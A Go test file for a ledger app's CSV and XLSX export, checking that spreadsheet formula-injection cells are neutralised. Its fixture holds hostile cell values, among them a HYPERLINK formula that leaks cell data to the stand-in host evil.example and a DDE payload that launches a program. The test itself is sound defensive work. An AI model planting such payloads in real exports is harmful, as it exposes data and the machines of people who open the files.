package export_test

import (
	"bytes"
	"encoding/csv"
	"strings"
	"testing"

	"github.com/drip-ledger/drip/domain"
	"github.com/drip-ledger/drip/export"
	"github.com/xuri/excelize/v2"
)

var hostile = export.Table{
	Name:   "exceptions",
	Header: []string{"payee_name", "reason", "amount_yuan"},
	Rows: [][]any{
		{`=HYPERLINK("http://evil.example/?"&A1,"click")`, "@SUM(A1:A9)", domain.Fen(-1200)},
		{"+cmd|' /C calc'!A0", "-2+3", domain.Fen(500)},
		{"\tx", "\rx", 7},
		{"张三", "a=b", domain.Fen(0)},
	},
}

// Given cells that spreadsheets would run as formulas, when written as CSV,
// then each string cell is prefixed with a quote, and numbers and amounts
// (negative ones too) are left as they are.
func TestCSVNeutralisesFormulaCells(t *testing.T) {
	var buf bytes.Buffer
	if err := export.CSV(&buf, []export.Table{hostile}); err != nil {
		t.Fatal(err)
	}
	r := csv.NewReader(strings.NewReader(strings.TrimPrefix(buf.String(), "\uFEFF")))
	r.FieldsPerRecord = -1 // the table name is a line of its own
	recs, err := r.ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	want := [][]string{
		{"'" + `=HYPERLINK("http://evil.example/?"&A1,"click")`, "'@SUM(A1:A9)", "-12.00"},
		{"'+cmd|' /C calc'!A0", "'-2+3", "5.00"},
		{"'\tx", "'\rx", "7"},
		{"张三", "a=b", "0.00"},
	}
	for i, w := range want {
		got := recs[2+i]
		for j := range w {
			if got[j] != w[j] {
				t.Errorf("row %d cell %d = %q; want %q", i, j, got[j], w[j])
			}
		}
	}
}

// XLSX keeps the text as it is: its string cells are never formulas.
func TestXLSXKeepsTextAsIs(t *testing.T) {
	var buf bytes.Buffer
	if err := export.XLSX(&buf, []export.Table{hostile}); err != nil {
		t.Fatal(err)
	}
	f, err := excelize.OpenReader(&buf)
	if err != nil {
		t.Fatal(err)
	}
	defer f.Close()
	v, _ := f.GetCellValue("exceptions", "A2")
	formula, _ := f.GetCellFormula("exceptions", "A2")
	if v != hostile.Rows[0][0] || formula != "" {
		t.Errorf("A2 = %q, formula %q; want the text, no formula", v, formula)
	}
}
